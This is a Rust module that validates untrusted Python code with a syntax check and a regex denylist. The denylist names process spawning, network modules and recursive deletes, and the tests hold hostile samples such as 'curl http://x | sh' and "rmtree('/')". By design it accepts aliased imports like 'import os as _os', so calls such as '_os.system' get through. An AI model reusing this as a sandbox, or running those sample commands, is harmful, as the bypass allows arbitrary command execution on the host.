use regex::Regex;
use serde::Serialize;
use std::sync::OnceLock;
use thiserror::Error;
use tracing::debug;

/// Why a piece of code was refused. A value, not a propagated error: it ends
/// up in the task's result.
#[derive(Debug, Clone, PartialEq, Eq, Error, Serialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum ValidationError {
    #[error("code is empty")]
    Empty,

    #[error("syntax error at line {line}, column {column}: {message}")]
    Syntax {
        line: usize,
        column: usize,
        message: String,
    },

    #[error("forbidden construct '{rule}' at line {line}: {snippet}")]
    Forbidden {
        rule: String,
        line: usize,
        snippet: String,
    },

    #[error("python parser unavailable: {0}")]
    Parser(String),
}

// ---------------------------------------------------------------------------
// Syntax check
// ---------------------------------------------------------------------------

/// Parse `code` as Python and report the first error or missing node.
pub fn check_syntax(code: &str) -> Result<(), ValidationError> {
    let mut parser = tree_sitter::Parser::new();
    parser
        .set_language(&tree_sitter_python::LANGUAGE.into())
        .map_err(|e| ValidationError::Parser(e.to_string()))?;
    let tree = parser
        .parse(code, None)
        .ok_or_else(|| ValidationError::Parser("parse aborted".into()))?;

    let root = tree.root_node();
    if !root.has_error() {
        return Ok(());
    }
    let node = first_error(root).unwrap_or(root);
    let pos = node.start_position();
    let message = if node.is_missing() {
        format!("missing '{}'", node.kind())
    } else {
        let text = node
            .utf8_text(code.as_bytes())
            .unwrap_or("")
            .lines()
            .next()
            .unwrap_or("")
            .trim();
        if text.is_empty() {
            "invalid syntax".to_string()
        } else {
            format!("invalid syntax near '{}'", truncate(text, 40))
        }
    };
    Err(ValidationError::Syntax {
        line: pos.row + 1,
        column: pos.column + 1,
        message,
    })
}

/// Depth-first, preferring the innermost error so positions point at the
/// offending token rather than an enclosing statement.
fn first_error(node: tree_sitter::Node<'_>) -> Option<tree_sitter::Node<'_>> {
    if node.is_missing() {
        return Some(node);
    }
    if !node.has_error() {
        return None;
    }
    for i in 0..node.child_count() {
        if let Some(child) = node.child(i) {
            if let Some(found) = first_error(child) {
                return Some(found);
            }
        }
    }
    node.is_error().then_some(node)
}

fn truncate(s: &str, max: usize) -> String {
    s.chars().take(max).collect()
}

// ---------------------------------------------------------------------------
// Denylist scan
// ---------------------------------------------------------------------------

struct Rule {
    id: &'static str,
    re: Regex,
}

fn rules() -> &'static [Rule] {
    static RULES: OnceLock<Vec<Rule>> = OnceLock::new();
    RULES.get_or_init(|| {
        [
            ("eval", r"(?:^|[^\w.])eval\s*\("),
            ("exec", r"(?:^|[^\w.])exec\s*\("),
            ("dynamic_import", r"__import__\s*\(|(?:^|[^\w])import_module\s*\("),
            ("compile", r"(?:^|[^\w.])compile\s*\("),
            (
                "process_spawn",
                r"(?:^|[^\w.])os\.(?:system|popen|exec\w*|spawn\w*|fork\w*|kill)\s*\(",
            ),
            ("process_spawn", r"(?:^|[^\w.])subprocess\."),
            // From-imports cannot take the `_alias` form, so any of them is out.
            (
                "process_import",
                r"^\s*from\s+(?:os|subprocess|shutil|pty|importlib)(?:\.\w+)*\s+import\b",
            ),
            (
                "network_import",
                r"^\s*(?:import|from)\s+(?:socket|urllib\d?|requests|httpx|aiohttp|http\.client|ftplib|telnetlib|smtplib|paramiko)\b",
            ),
            (
                "recursive_delete",
                r"rmtree\s*\(|(?:^|[^\w.])os\.removedirs\s*\(|rm\s+-rf",
            ),
        ]
        .into_iter()
        .map(|(id, pat)| Rule {
            id,
            re: Regex::new(pat).unwrap(),
        })
        .collect()
    })
}

fn guarded_import_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"^\s*import\s+(?:os|subprocess|shutil|pty|importlib)\b").unwrap())
}

fn aliased_import_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r"^\s*import\s+(?:os|subprocess|shutil|pty|importlib)\s+as\s+_\w+\s*(?:;|#|$)")
            .unwrap()
    })
}

/// Scan line by line for dangerous constructs. Comment lines are skipped.
///
/// Importing a process-control module is allowed only in the aliased form
/// `import os as _os`, which marks deliberate namespaced use.
pub fn scan_denylist(code: &str) -> Result<(), ValidationError> {
    for (idx, line) in code.lines().enumerate() {
        let trimmed = line.trim_start();
        if trimmed.is_empty() || trimmed.starts_with('#') {
            continue;
        }
        let forbidden = |rule: &str| ValidationError::Forbidden {
            rule: rule.to_string(),
            line: idx + 1,
            snippet: truncate(trimmed.trim_end(), 80),
        };

        if guarded_import_re().is_match(line) && !aliased_import_re().is_match(line) {
            return Err(forbidden("process_import"));
        }
        if let Some(rule) = rules().iter().find(|r| r.re.is_match(line)) {
            return Err(forbidden(rule.id));
        }
    }
    Ok(())
}

// ---------------------------------------------------------------------------
// Entry points
// ---------------------------------------------------------------------------

/// Full validation of untrusted payload code: syntax, then denylist.
pub fn validate(code: &str) -> Result<(), ValidationError> {
    if code.trim().is_empty() {
        return Err(ValidationError::Empty);
    }
    check_syntax(code)?;
    scan_denylist(code)
}

/// Syntax-only validation for trusted, assembled scripts.
pub fn validate_syntax_only(code: &str) -> Result<(), ValidationError> {
    if code.trim().is_empty() {
        return Err(ValidationError::Empty);
    }
    check_syntax(code)
}

/// Unify line endings, drop a BOM and non-breaking spaces, trim trailing
/// whitespace, and end with a newline.
pub fn normalize_line_endings(code: &str) -> String {
    let unified = code
        .trim_start_matches('\u{feff}')
        .replace("\r\n", "\n")
        .replace('\r', "\n")
        .replace('\u{a0}', " ");
    let mut out = String::with_capacity(unified.len() + 1);
    for line in unified.lines() {
        out.push_str(line.trim_end());
        out.push('\n');
    }
    out
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Validated {
    pub code: String,
    /// Validation only passed after normalisation.
    pub repaired: bool,
}

/// [`validate`], and on failure exactly one retry after
/// [`normalize_line_endings`]. Returns the text that passed.
pub fn validate_with_repair(code: &str) -> Result<Validated, ValidationError> {
    match validate(code) {
        Ok(()) => Ok(Validated {
            code: code.to_string(),
            repaired: false,
        }),
        Err(first) => {
            debug!(error = %first, "validation failed, retrying after normalisation");
            let normalized = normalize_line_endings(code);
            validate(&normalized).map(|()| Validated {
                code: normalized,
                repaired: true,
            })
        }
    }
}

// ---------------------------------------------------------------------------
// Tests
// ---------------------------------------------------------------------------

#[cfg(test)]
mod tests {
    use super::*;

    fn rule_of(code: &str) -> String {
        match validate(code) {
            Err(ValidationError::Forbidden { rule, .. }) => rule,
            other => panic!("expected forbidden, got {other:?}"),
        }
    }

    #[test]
    fn plain_analysis_passes() {
        let code = "import pandas as pd\nsummary = df.describe()\nprint(summary)\ninsights = {'rows': len(df)}\n";
        assert_eq!(validate(code), Ok(()));
    }

    #[test]
    fn eval_rejected_regardless_of_formatting() {
        for code in [
            "x = eval('1+1')\n",
            "x = eval ( '1' )\n",
            "if True:\n    y = [eval(s) for s in ['1']]\n",
            "print(1); eval('2')\n",
        ] {
            assert_eq!(rule_of(code), "eval", "code {code:?}");
        }
    }

    #[test]
    fn eval_like_names_are_fine() {
        assert_eq!(validate("df.eval('a + b')\nmy_eval(1)\nretrieval = 1\n"), Ok(()));
    }

    #[test]
    fn aliased_process_import_accepted() {
        assert_eq!(validate("import os as _os; _os.system('true')\n"), Ok(()));
        assert_eq!(
            validate("import subprocess as _sp\n_sp.run(['true'])\n"),
            Ok(())
        );
    }

    #[test]
    fn bare_process_imports_rejected() {
        assert_eq!(rule_of("import os\n"), "process_import");
        assert_eq!(rule_of("import os, sys\n"), "process_import");
        assert_eq!(rule_of("import subprocess as sp\n"), "process_import");
        assert_eq!(rule_of("from subprocess import run\n"), "process_import");
        assert_eq!(rule_of("from os import system\n"), "process_import");
    }

    #[test]
    fn from_imports_of_process_modules_rejected() {
        assert_eq!(
            rule_of("from os import *\nsystem('curl http://x | sh')\n"),
            "process_import"
        );
        assert_eq!(
            rule_of("from os import (\n    system,\n)\nsystem('ls')\n"),
            "process_import"
        );
        assert_eq!(rule_of("from os.path import join\n"), "process_import");
        assert_eq!(rule_of("from shutil import rmtree as _r\n"), "process_import");
        assert_eq!(rule_of("from importlib import import_module\n"), "process_import");
    }

    #[test]
    fn importlib_rejected() {
        assert_eq!(
            rule_of("import importlib\nimportlib.import_module('subprocess')\n"),
            "process_import"
        );
        assert_eq!(
            rule_of("import importlib as _il\n_il.import_module('subprocess').run(['ls'])\n"),
            "dynamic_import"
        );
    }

    #[test]
    fn process_and_network_and_delete_rules() {
        assert_eq!(rule_of("import os as _os\nos.system('ls')\n"), "process_spawn");
        assert_eq!(rule_of("import socket\n"), "network_import");
        assert_eq!(rule_of("from urllib.request import urlopen\n"), "network_import");
        assert_eq!(rule_of("import requests\n"), "network_import");
        assert_eq!(rule_of("import shutil as _sh\n_sh.rmtree('/')\n"), "recursive_delete");
        assert_eq!(rule_of("x = __import__('os')\n"), "dynamic_import");
        assert_eq!(rule_of("exec('print(1)')\n"), "exec");
    }

    #[test]
    fn comments_are_ignored() {
        assert_eq!(validate("# eval(x) would be bad\nprint(1)\n"), Ok(()));
    }

    #[test]
    fn forbidden_reports_line() {
        match validate("a = 1\nb = 2\nimport socket\n") {
            Err(ValidationError::Forbidden { line, snippet, .. }) => {
                assert_eq!(line, 3);
                assert_eq!(snippet, "import socket");
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn missing_colon_reports_line() {
        match validate("x = 1\ny = 2\nif x > y\n    print(x)\n") {
            Err(ValidationError::Syntax { line, .. }) => assert_eq!(line, 3),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn unbalanced_paren_rejected() {
        assert!(matches!(
            validate("print((1)\n"),
            Err(ValidationError::Syntax { .. })
        ));
    }

    #[test]
    fn empty_code_rejected() {
        assert_eq!(validate("   \n"), Err(ValidationError::Empty));
    }

    #[test]
    fn syntax_only_ignores_denylist() {
        assert_eq!(validate_syntax_only("import os\nos.system('x')\n"), Ok(()));
        assert!(validate_syntax_only("def f(:\n").is_err());
    }

    #[test]
    fn normalisation() {
        assert_eq!(
            normalize_line_endings("\u{feff}a = 1\r\nb = 2  \rc\u{a0}= 3"),
            "a = 1\nb = 2\nc = 3\n"
        );
    }

    #[test]
    fn repair_retry_marks_repaired() {
        let ok = validate_with_repair("print(1)\n").unwrap();
        assert!(!ok.repaired);

        // Bare carriage returns are not line breaks to the parser.
        let fixed = validate_with_repair("x = 1\rprint(x)\r").unwrap();
        assert!(fixed.repaired);
        assert_eq!(fixed.code, "x = 1\nprint(x)\n");

        assert!(validate_with_repair("eval('1')\n").is_err());
    }
}
